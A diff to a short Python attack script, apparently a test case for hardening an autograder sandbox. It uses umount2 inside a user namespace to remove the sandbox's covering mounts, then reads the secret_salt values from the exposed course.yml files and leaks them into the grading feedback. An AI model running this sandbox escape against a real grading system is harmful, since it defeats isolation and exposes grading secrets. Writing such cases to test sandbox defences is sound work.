@@ -1,5 +1,6 @@
 # attack: the sandbox's own covers taken down: in a user namespace of its own the child is root there and
-# may unmount what it mounted, so the hidden course folder comes back, and its salt into the feedback
+# may unmount what it mounted, so the hidden folders come back (the course's, the checkout's), and the
+# secret salt of every course.yml among them goes into the feedback
 # cells: dbngain
 # batch: walls
 import ctypes
@@ -13,9 +14,12 @@ with open('/proc/self/mountinfo') as f:
             covers.append(before.split()[4].replace('\\040', ' '))
 for target in sorted(covers, key=len, reverse=True):
     libc.umount2(target.encode(), 2)  # MNT_DETACH
+salts = []
 for target in covers:
     path = os.path.join(target, 'course.yml')
     if os.path.exists(path):
         with open(path) as f:
-            leak('uncovered ' + [line for line in f if line.startswith('secret_salt')][0])
+            salts += [line.strip() for line in f if line.startswith('secret_salt')]
+if salts:
+    leak('uncovered ' + ' '.join(salts))
 raise OSError(ctypes.get_errno(), 'nothing uncovered')
